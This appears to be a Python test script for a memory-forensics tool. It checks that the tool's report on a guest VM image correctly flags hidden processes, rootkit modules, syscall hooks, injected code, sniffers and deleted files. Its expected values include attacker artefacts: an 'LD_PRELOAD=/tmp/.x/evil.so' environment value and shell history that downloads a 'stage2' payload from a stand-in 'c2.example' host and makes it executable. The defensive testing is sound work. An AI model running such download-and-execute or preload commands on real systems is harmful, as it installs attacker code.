#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Compares what `habo memory` reads from an image with the truth that its guest printed.

usage: memory-check.py HABO FOLDER   (FOLDER as tests/guest/memory-images.sh made it)
"""
import json
import pathlib
import socket
import subprocess
import sys

failures = 0
RUNGS = {"raw": "vmcoreinfo_page", "lime": "vmcoreinfo_page", "avml": "vmcoreinfo_page",
         "nopage": "kallsyms_scan", "nosymbols": "btf_scan"}


def expect(what, got, wanted):
    global failures
    if got != wanted:
        failures += 1
        print(f"FAIL {what}: got {got!r}, the guest says {wanted!r}")


def read_truth(path):
    truth = {"process": {}, "role": {}, "module": [], "hidden": {}}
    for line in path.read_text(errors="replace").splitlines():
        _, kind, rest = (line.split(" ", 2) + [""])[:3]
        if kind == "process":
            row = dict(field.split("=", 1) for field in rest.split("\t"))
            truth["process"][int(row["pid"])] = row
        elif kind == "role":
            name, pid = rest.split(" pid=")
            truth["role"][name] = int(pid)
        elif kind in ("hidden", "inject"):
            truth[kind] = dict(field.split("=", 1) for field in rest.split())
        else:
            truth.setdefault(kind, []).append(rest)
    return truth


def check_processes(name, report, truth):
    rows = {}
    for row in report["processes"]:
        if row["standing"] in ("listed", "hidden"):
            expect(f"{name}: process {row['pid']} is given once", row["pid"] in rows, False)
            rows[row["pid"]] = row
    for pid, wanted in truth["process"].items():
        if wanted["argv"] == "/actor|truth":  # had ended when memory was taken
            continue
        row = rows.get(pid)
        if row is None:
            # Kernel workers come and go.
            if not wanted["comm"].startswith("kworker"):
                expect(f"{name}: process {pid} {wanted['comm']} is there", False, True)
            continue
        at = f"{name}: process {pid}"
        expect(f"{at} ppid", row["ppid"], int(wanted["ppid"]))
        expect(f"{at} uid", row["uid"], int(wanted["uid"]))
        expect(f"{at} gid", row["gid"], int(wanted["gid"]))
        expect(f"{at} start", row["start_ns"] // 10_000_000, int(wanted["start"]))
        expect(f"{at} threads", len(row["threads"]) + 1, int(wanted["threads"]))
        if not row["is_kernel_thread"]:
            expect(f"{at} comm", row["name"], wanted["comm"])
            exe = row.get("exe", "") + (" (deleted)" if row["exe_deleted"] else "")
            expect(f"{at} exe", exe, wanted["exe"])
            expect(f"{at} argv", "|".join(row["argv"]), wanted["argv"])
    hidden = sorted(row["pid"] for row in rows.values() if row["standing"] == "hidden")
    wanted = [int(truth["hidden"]["pid"])] if truth["hidden"] else []
    expect(f"{name}: hidden processes", hidden, wanted)
    memfd = rows[truth["role"]["memfd"]]
    expect(f"{name}: memfd program", memfd["exe_memfd"], True)
    expect(f"{name}: memfd's environment", memfd["environment"], ["LD_PRELOAD=/tmp/.x/evil.so"])
    expect(f"{name}: tracer", [r["tracer"] for r in rows.values() if r["name"] == "tracee"],
           [truth["role"]["traced"]])
    inner = [r for r in rows.values() if r["name"] == "ns-init"][0]
    expect(f"{name}: number in its own namespace", inner["namespace_pid"], 1)
    expect(f"{name}: zombie", [r["state"] for r in rows.values()
                              if r["ppid"] == truth["role"]["zombie"]], ["zombie"])


def check_modules(name, report, truth):
    rows = {row["name"]: row for row in report["modules"]}
    for line in truth.get("module", []):
        module, size, *_, address = line.split()
        row = rows.get(module, {})
        at = f"{name}: module {module}"
        expect(f"{at} standing", row.get("standing"), "listed")
        expect(f"{at} size", row.get("size"), int(size))
        expect(f"{at} base", row.get("base"), address)
    hidden = [row["address"] for row in report["modules"] if row["standing"] != "listed"]
    hooks = [(row["number"], row["target"]) for row in report["syscall_hooks"]]
    wanted = truth["hidden"]
    expect(f"{name}: hidden modules", hidden, ["0x" + wanted["module"]] if wanted else [])
    expect(f"{name}: diverted calls", hooks,
           [(int(wanted["syscall"]), "0x" + wanted["handler"])] if wanted else [])


def ip(word):
    """An address as /proc/net prints it → as we do."""
    address, port = word.split(":")
    packed = b"".join(bytes.fromhex(address[i:i + 8])[::-1] for i in range(0, len(address), 8))
    if len(packed) == 4:
        return f"{socket.inet_ntop(socket.AF_INET, packed)}:{int(port, 16)}"
    return f"[{socket.inet_ntop(socket.AF_INET6, packed)}]:{int(port, 16)}"


def check_sockets(name, report, truth):
    wanted = []
    for kind in ("tcp", "tcp6", "udp", "raw"):
        family = "inet6" if kind == "tcp6" else "inet"
        for line in truth.get(kind, [])[1:]:
            words = line.split()
            wanted.append((family, ip(words[1]), ip(words[2])))
    got = [(r["family"], r["local"], r["remote"]) for r in report["sockets"]
           if r["family"] in ("inet", "inet6")]
    expect(f"{name}: sockets", sorted(got), sorted(wanted))
    listening = sum(line.split()[3] == "0A" for kind in ("tcp", "tcp6")
                    for line in truth.get(kind, [])[1:])
    expect(f"{name}: listening", sum(r.get("state") == "listening" for r in report["sockets"]),
           listening)
    expect(f"{name}: unix paths", [r.get("local") for r in report["sockets"]
                                   if r["family"] == "unix"],
           [line.split()[7] for line in truth.get("unix", [])[1:] if len(line.split()) > 7])
    sniffers = [(r["pid"], len(r["filter"]), r["filter"][3]) for r in report["sockets"]
                if r["family"] == "packet"]
    expect(f"{name}: sniffers", sniffers, [(truth["role"]["sniffer"], 6, "jeq #0x7255 jt 4 jf 5")])


def check_actors(name, report, truth):
    inject = truth["inject"]
    pid = int(inject["pid"])
    regions = {(r["pid"], r["kind"]): r for r in report["regions"]}
    expect(f"{name}: regions", sorted(regions), sorted(
        [(truth["role"]["memfd"], "memfd_code"), (truth["role"]["deleted"], "deleted_code"),
         (pid, "changed_code"), (pid, "anonymous_code"), (pid, "writable_code")]))
    expect(f"{name}: writable code", regions[pid, "writable_code"]["address"], inject["rwx"])
    expect(f"{name}: anonymous code", regions[pid, "anonymous_code"]["address"], inject["rx"])
    expect(f"{name}: changed code", regions[pid, "changed_code"]["at"], inject["text"])
    expect(f"{name}: code bytes", regions[pid, "anonymous_code"]["start"][:16], "554889e531c05dc3")
    expect(f"{name}: history", [(r["pid"], r["line"]) for r in report["commands"]],
           [(truth["role"]["bash"], "echo wget http://c2.example/x -O /tmp/.x/stage2"),
            (truth["role"]["bash"], "echo chmod +x /tmp/.x/stage2")])
    expect(f"{name}: BPF programs", [(r["name"], r["type"], r["holders"])
                                     for r in report["bpf_programs"]],
           [("magic_flt", "socket_filter", [f"{truth['role']['ebpf']} actor"])])
    foreign = sorted((r["kind"], r["name"], r["owner"]) for r in report["callbacks"]
                     if r["is_foreign"])
    expect(f"{name}: foreign callbacks", foreign,
           [("kprobe", "do_sys_openat2", "hidden module hider"),
            ("netfilter", "ipv4 local_in, namespace 4026531840", "hidden module hider")]
           if truth["hidden"] else [])
    log = [r["text"] for r in report["kernel_log"]]
    expect(f"{name}: first line of the log", log[0][:40], truth["version"][0][:40])
    expect(f"{name}: command line", "console=ttyS0 quiet" in report["command_line"], True)
    if truth["hidden"]:
        expect(f"{name}: the module's line in the log",
               sum(f"TRUTH hidden pid={truth['hidden']['pid']}" in line for line in log), 1)
    loot = [r for r in report["files"] if r["path"] == "/tmp/.x-loot"]
    expect(f"{name}: deleted file", [(r["pid"], r["size"], r["is_deleted"]) for r in loot],
           [(truth["role"]["files"], 9, True)])


def check_clean(name, report):
    """Nothing is hidden or diverted in a guest that is only busy."""
    expect(f"{name}: hidden", [(r["pid"], r["name"], r["notes"]) for r in report["processes"]
                               if r["standing"] == "hidden"], [])
    expect(f"{name}: hidden modules", [r["name"] for r in report["modules"]
                                       if r["standing"] != "listed"], [])
    expect(f"{name}: diverted calls", report["syscall_hooks"], [])
    expect(f"{name}: foreign callbacks", [r for r in report["callbacks"] if r["is_foreign"]], [])


def check_image(habo, image):
    name = image.stem
    truth = read_truth(image.with_suffix(".truth"))
    run = subprocess.run([habo, "memory", "--json", "-q", image], capture_output=True, text=True)
    if run.returncode:
        expect(f"{name}: exit status, {run.stderr.strip()}", run.returncode, 0)
        return
    report = json.loads(run.stdout)
    if "busy" in name:
        check_clean(name, report)
        print(f"{name}: nothing hidden among {len(report['processes'])} processes")
        return
    lacks = name.rsplit("-", 1)[-1]  # what memory-variants.py took away
    expect(f"{name}: rung", report["rung"], RUNGS.get(lacks, "vmcoreinfo_note"))
    expect(f"{name}: format", report["format"],
           lacks if lacks in ("lime", "avml") else "raw" if lacks in RUNGS else "elf")
    if lacks == "nosymbols":
        check_processes(name, report, truth)
        print(f"{name}: {report['rung']}")
        return
    expect(f"{name}: banner", report["kernel"][:60], truth["version"][0][:60])
    expect(f"{name}: anomalies", report["anomalies"], [])
    expect(f"{name}: plugins that did not run",
           [r["name"] for r in report["runs"] if r.get("error")], [])
    check_processes(name, report, truth)
    check_modules(name, report, truth)
    check_sockets(name, report, truth)
    check_actors(name, report, truth)
    print(f"{name}: {report['rung']}, {report['paging_levels']} levels, " +
          ", ".join(f"{r['rows']} {r['name']} in {r['duration_us'] / 1000:.1f} ms"
                    for r in report["runs"]))


def main():
    habo, folder = sys.argv[1:]
    images = sorted([*pathlib.Path(folder).glob("*.elf"), *pathlib.Path(folder).glob("*.img")])
    if not images:
        sys.exit(f"no images in {folder}: run memory-images.sh first")
    for image in images:
        check_image(habo, image)
    sys.exit(1 if failures else 0)


main()
